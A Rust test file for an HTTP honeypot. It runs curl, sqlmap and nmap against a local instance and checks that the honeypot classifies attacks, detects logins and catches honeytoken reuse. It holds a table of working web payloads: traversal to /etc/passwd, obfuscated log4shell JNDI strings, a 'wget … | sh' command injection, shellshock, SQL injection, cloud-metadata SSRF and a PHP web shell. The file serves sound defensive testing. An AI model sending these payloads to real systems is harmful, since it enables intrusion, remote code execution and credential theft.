//! Real clients and attack tools against the honeypot: curl with payloads that are
//! not in the rules' own tests, sqlmap, nmap's service detection and http-enum.

use std::collections::HashSet;
use std::process::Command;

use nectar_event::Kind;
use nectar_honeypot::http::HttpHoneypotConfig;

use super::{classes, need, of, start};

/// Each payload, where curl puts it, and the class it must get.
const HELD_OUT: &[(&str, &str, &str)] = &[
    // (class, where: url | ua | header | body, payload)
    (
        "traversal",
        "url",
        "/cgi-bin/..%252f..%252f..%252f..%252fetc%252fpasswd",
    ),
    (
        "traversal",
        "url",
        "/download.php?file=..%5C..%5C..%5Cboot.ini",
    ),
    (
        "traversal",
        "url",
        "/index.php?page=....//....//....//etc/shadow",
    ),
    (
        "log4shell",
        "ua",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/o}",
    ),
    (
        "log4shell",
        "header",
        "X-Api-Version: ${${lower:J}${upper:n}di:ldap://198.51.100.7/a}",
    ),
    (
        "log4shell",
        "header",
        "Referer: ${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//198.51.100.7/b}",
    ),
    (
        "log4shell",
        "url",
        "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2F198.51.100.7%2Fc%7D",
    ),
    (
        "cmdi",
        "url",
        "/ping.php?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd",
    ),
    (
        "cmdi",
        "body",
        "ip=8.8.8.8|wget http://198.51.100.7/x.sh -O- |sh",
    ),
    ("cmdi", "url", "/cgi-bin/admin.cgi?cmd=%60id%60"),
    (
        "xss",
        "url",
        "/search?q=%3Csvg%2Fonload%3Dalert%28document.domain%29%3E",
    ),
    (
        "xss",
        "url",
        "/?name=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    ),
    ("xss", "body", "comment=<img src=x onerror=prompt(1)>"),
    (
        "shellshock",
        "ua",
        "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd",
    ),
    (
        "sqli",
        "url",
        "/products.php?id=-1%20UNION%20SELECT%201,username,password%20FROM%20users--%20-",
    ),
    (
        "ssrf",
        "url",
        "/proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    ),
    ("php", "body", "<?php echo shell_exec($_GET['c']); ?>"),
    ("rfi", "url", "/index.php?page=http://198.51.100.7/r57.txt?"),
];

fn curl(port: &str, case: usize, place: &str, payload: &str) -> std::process::Output {
    let base = format!("http://127.0.0.1:{port}");
    let mut cmd = Command::new("timeout");
    cmd.args(["20", "curl", "-s", "-o", "/dev/null", "--path-as-is", "-g"]);
    // Events of parallel connections may reach the bus in any order: a marker.
    cmd.args(["-H", &format!("X-Case: {case}")]);
    match place {
        "url" => {
            cmd.arg(format!("{base}{payload}"));
        }
        "ua" => {
            cmd.args(["-A", payload, &format!("{base}/")]);
        }
        "header" => {
            cmd.args(["-H", payload, &format!("{base}/")]);
        }
        "body" => {
            cmd.args(["--data-binary", payload, &format!("{base}/index.php")]);
        }
        _ => unreachable!(),
    }
    cmd.output().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_held_out_payloads_are_each_classified() {
    if !need("curl", "curl") {
        return;
    }
    let pot = start(HttpHoneypotConfig::default()).await;
    let port = pot.port();
    tokio::task::spawn_blocking(move || {
        for (case, (_, place, payload)) in HELD_OUT.iter().enumerate() {
            let out = curl(&port, case, place, payload);
            assert!(out.status.success(), "curl failed for {payload}");
        }
    })
    .await
    .unwrap();
    let events = pot.finish().await;
    let requests = of(&events, Kind::HttpRequest);
    assert_eq!(requests.len(), HELD_OUT.len());
    for (case, (class, _, payload)) in HELD_OUT.iter().enumerate() {
        let marker = case.to_string();
        let event = requests
            .iter()
            .find(|e| {
                e.data["headers"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|h| h[0] == "X-Case" && h[1] == marker.as_str())
            })
            .unwrap_or_else(|| panic!("no event for {payload}"));
        assert!(
            classes(event).contains(class),
            "{payload} -> {:?} {:?}",
            classes(event),
            event.data["rules"]
        );
        assert!(event.data["user_agent"].as_str().is_some());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wordpress_login_post_is_an_http_login_event() {
    if !need("curl", "curl") {
        return;
    }
    let pot = start(HttpHoneypotConfig::default()).await;
    let port = pot.port();
    let page = tokio::task::spawn_blocking(move || {
        let out = Command::new("timeout")
            .args(["20", "curl", "-s", "-i"])
            .args(["--data", "log=admin&pwd=Summer2024%21&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1"])
            .arg(format!("http://127.0.0.1:{port}/wp-login.php"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    })
    .await
    .unwrap();
    assert!(page.starts_with("HTTP/1.1 200 OK\r\n"), "{page}");
    assert!(
        page.contains("for the username <strong>admin</strong> is incorrect"),
        "{page}"
    );
    let events = pot.finish().await;
    let logins = of(&events, Kind::HttpLogin);
    assert_eq!(logins.len(), 1, "{events:#?}");
    assert_eq!(logins[0].data["username"], "admin");
    assert_eq!(logins[0].data["password"], "Summer2024!");
    assert_eq!(logins[0].data["persona"], "wordpress");
    let request = of(&events, Kind::HttpRequest)[0];
    assert_eq!(request.data["method"], "POST");
    assert_eq!(request.data["path"], "/wp-login.php");
    assert_eq!(request.data["body_sha256"].as_str().unwrap().len(), 64);
    assert!(
        request.data["body_preview"]
            .as_str()
            .unwrap()
            .starts_with("log=admin")
    );
    let headers = request.data["headers"].as_array().unwrap();
    assert_eq!(headers[0][0], "Host");
    assert!(headers.iter().any(|h| h[0] == "Content-Type"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn honeytoken_from_exposed_env_comes_back_as_credential_reuse() {
    if !need("curl", "curl") {
        return;
    }
    let pot = start(HttpHoneypotConfig::default()).await;
    let port = pot.port();
    let secret = pot.tokens.value("db_password").to_owned();
    let env = tokio::task::spawn_blocking(move || {
        let env = Command::new("curl")
            .args(["-s", &format!("http://127.0.0.1:{port}/.env")])
            .output()
            .unwrap();
        let _ = Command::new("curl")
            .args(["-s", "-o", "/dev/null", "-u", &format!("root:{secret}")])
            .arg(format!("http://127.0.0.1:{port}/phpmyadmin/"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&env.stdout).into_owned()
    })
    .await
    .unwrap();
    assert!(env.contains(&format!("DB_PASSWORD={}", pot.tokens.value("db_password"))));
    let events = pot.finish().await;
    let reuse = of(&events, Kind::CredentialReuse);
    assert_eq!(reuse.len(), 1, "{events:#?}");
    assert_eq!(reuse[0].data["token"], "db_password");
    assert_eq!(reuse[0].data["protocol"], "http");
    assert_eq!(of(&events, Kind::HttpLogin)[0].data["format"], "basic");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlmap_requests_are_classified_sqli() {
    if !need("sqlmap", "sqlmap") {
        return;
    }
    let pot = start(HttpHoneypotConfig {
        max_requests_per_ip_per_second: 0,
        ..Default::default()
    })
    .await;
    let port = pot.port();
    let home = pot.dir.path().join("sqlmap-home");
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["240", "sqlmap", "-u"])
            .arg(format!("http://127.0.0.1:{port}/?id=1&cat=books"))
            .args(["--batch", "--level", "1", "--risk", "1", "--technique=B"])
            .args([
                "--threads",
                "2",
                "--timeout",
                "5",
                "--retries",
                "0",
                "--flush-session",
            ])
            .args(["--output-dir", &home.display().to_string()])
            .env("HOME", &home)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("testing") || stdout.contains("sqlmap"),
        "{stdout}"
    );
    let events = pot.finish().await;
    let requests = of(&events, Kind::HttpRequest);
    assert!(
        requests.len() >= 10,
        "only {} requests: {stdout}",
        requests.len()
    );
    let sqli = requests
        .iter()
        .filter(|e| classes(e).contains(&"sqli"))
        .count();
    assert!(sqli >= 5, "{sqli} of {} classified sqli", requests.len());
    assert!(
        requests.iter().all(|e| classes(e).contains(&"scanner")),
        "sqlmap's User-Agent is a scanner"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_service_scan_and_http_enum_are_recognised() {
    if !need("nmap", "nmap") {
        return;
    }
    let pot = start(HttpHoneypotConfig {
        max_requests_per_ip_per_second: 0,
        ..Default::default()
    })
    .await;
    let port = pot.port();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args([
                "240",
                "nmap",
                "-n",
                "-Pn",
                "-sV",
                "--script",
                "http-enum",
                "-p",
                &port,
            ])
            .args(["--host-timeout", "200s", "127.0.0.1"])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    // nmap takes us for the server we claim to be.
    assert!(
        stdout.contains("Apache httpd 2.4.71 ((Debian))"),
        "{stdout}"
    );
    let events = pot.finish().await;
    let requests = of(&events, Kind::HttpRequest);
    assert!(
        requests.len() >= 50,
        "only {} requests recorded",
        requests.len()
    );
    let scanner = requests
        .iter()
        .filter(|e| classes(e).contains(&"scanner"))
        .count();
    assert!(
        scanner >= requests.len() / 2,
        "{scanner} of {} marked scanner",
        requests.len()
    );
    let rules: HashSet<&str> = requests
        .iter()
        .flat_map(|e| {
            e.data["rules"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|r| r.as_str())
        })
        .collect();
    assert!(rules.contains("scanner-nmap"), "{rules:?}");
    // http-enum found bait pages.
    assert!(
        stdout.contains("/wp-login.php") || stdout.contains("/phpmyadmin/"),
        "{stdout}"
    );
}
